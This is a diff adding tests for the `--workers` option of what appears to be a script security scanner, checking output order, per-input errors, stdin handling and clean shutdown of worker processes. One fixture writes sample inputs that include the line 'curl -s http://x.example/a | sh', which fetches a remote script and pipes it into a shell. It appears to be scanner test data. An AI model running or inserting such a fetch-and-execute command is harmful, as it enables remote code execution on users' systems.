@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import contextlib
 import json
 import os
+import signal
 import subprocess
 import sys
 from pathlib import Path
@@ -129,3 +131,120 @@ def test_secrets_in_a_request_never_reach_the_output(tmp_path: Path) -> None:
     assert "SECRETSIG123" not in result.stdout and key not in result.stdout
     pretty = run("scan", str(path))
     assert "SECRETSIG123" not in pretty.stdout + pretty.stderr and key not in pretty.stdout
+
+
+# --- every core: `--workers` ---------------------------------------------------------------
+
+VOLATILE = ("id", "elapsed_ms", "created_at")  # differ between any two runs, one process or many
+
+
+def comparable(stdout: str) -> list[dict[str, object]]:
+    return [{k: v for k, v in row.items() if k not in VOLATILE} for row in lines(stdout)]
+
+
+@pytest.fixture
+def many(inputs: dict[str, Path], tmp_path: Path) -> Path:
+    folder = tmp_path / "many"
+    folder.mkdir()
+    sources = [BAD, GOOD, json.dumps(CSE), '{"properties": {', "echo hi; curl -s http://x.example/a | sh\n"]
+    for n in range(40):
+        suffix = ".json" if n % 5 in (2, 3) else ".ps1" if n % 5 < 2 else ".sh"
+        (folder / f"{n:03}{suffix}").write_text(sources[n % 5])
+    return folder
+
+
+def test_several_workers_print_what_one_process_prints_in_input_order(many: Path, tmp_path: Path) -> None:
+    missing = str(tmp_path / "absent.ps1")
+    one = run("scan", "--json", "--workers", "1", str(many), missing)
+    two = run("scan", "--json", "--workers", "2", str(many), missing)
+    assert one.returncode == two.returncode == 2, two.stderr
+    assert comparable(two.stdout) == comparable(one.stdout)
+    names = [str(row["input"]) for row in lines(two.stdout)]
+    assert names == sorted(str(p) for p in many.iterdir()) + [missing]
+
+
+def test_an_input_error_in_a_worker_stays_with_its_input(many: Path) -> None:
+    result = run("scan", "--json", "--workers", "2", str(many))
+    rows = lines(result.stdout)
+    errors = [Path(str(r["input"])).name for r in rows if "error" in r]
+    assert errors == [f"{n:03}.json" for n in range(40) if n % 5 == 3]
+    assert all(r["error"]["kind"] == "invalid_json" for r in rows if "error" in r)  # type: ignore[index]
+    assert len(rows) == 40 and "Traceback" not in result.stderr
+
+
+def test_standard_input_is_read_by_the_parent_and_scanned_by_a_worker(inputs: dict[str, Path]) -> None:
+    result = run("scan", "--json", "--workers", "2", str(inputs["good"]), "-", stdin=BAD)
+    assert result.returncode == 1
+    assert [r["input"] for r in lines(result.stdout)] == [str(inputs["good"]), "-"]
+
+
+def _children(pid: int) -> set[int]:
+    found: set[int] = set()
+    for task in Path(f"/proc/{pid}/task").iterdir():
+        with contextlib.suppress(OSError):
+            found.update(int(c) for c in (task / "children").read_text().split())
+    return found
+
+
+def _alive(pid: int) -> bool:
+    try:
+        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
+    except OSError:
+        return False
+    return state not in ("Z", "X")
+
+
+def _start_scan(folder: Path) -> subprocess.Popen[str]:
+    env = {k: v for k, v in os.environ.items() if not k.startswith("INSPECTOR_")}
+    env["INSPECTOR_FETCH"] = "false"
+    return subprocess.Popen([str(BIN), "scan", "--json", "--workers", "2", str(folder)], stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE, text=True, env=env, start_new_session=True)
+
+
+@pytest.fixture
+def clean_folder(tmp_path: Path) -> Path:
+    folder = tmp_path / "clean"
+    folder.mkdir()
+    for n in range(1500):
+        (folder / f"{n:04}.ps1").write_text(GOOD + f"# {n}\n" * 50)
+    return folder
+
+
+def _workers_once_scanning(scan: subprocess.Popen[str]) -> set[int]:
+    assert scan.stdout is not None
+    first = scan.stdout.readline()  # a worker has analysed something: the pool is up
+    assert first, scan.stderr.read() if scan.stderr else ""
+    children = _children(scan.pid)
+    assert len(children) >= 2
+    return children
+
+
+def test_ctrl_c_stops_the_workers_and_leaves_no_process(clean_folder: Path) -> None:
+    scan = _start_scan(clean_folder)
+    children = _workers_once_scanning(scan)
+    os.killpg(scan.pid, signal.SIGINT)  # what a terminal does: the whole process group
+    out, err = scan.communicate(timeout=GIVE_UP_S)
+    assert scan.returncode == 1  # interrupted (all 1500 clean inputs finished would be 0)
+    assert len(lines(out)) < 1499
+    assert "Traceback" not in err
+    until_gone(children)
+
+
+def test_a_closed_pipe_stops_the_workers_and_leaves_no_process(clean_folder: Path) -> None:
+    scan = _start_scan(clean_folder)
+    children = _workers_once_scanning(scan)
+    assert scan.stdout is not None
+    scan.stdout.close()  # `| head -1`
+    scan.wait(timeout=GIVE_UP_S)
+    assert scan.returncode != 0
+    assert scan.stderr is not None and "Traceback" not in scan.stderr.read()
+    until_gone(children)
+
+
+def until_gone(pids: set[int]) -> None:
+    import time
+
+    deadline = time.monotonic() + GIVE_UP_S
+    while any(_alive(pid) for pid in pids):
+        assert time.monotonic() < deadline, f"still running: {[p for p in pids if _alive(p)]}"
+        time.sleep(0.05)
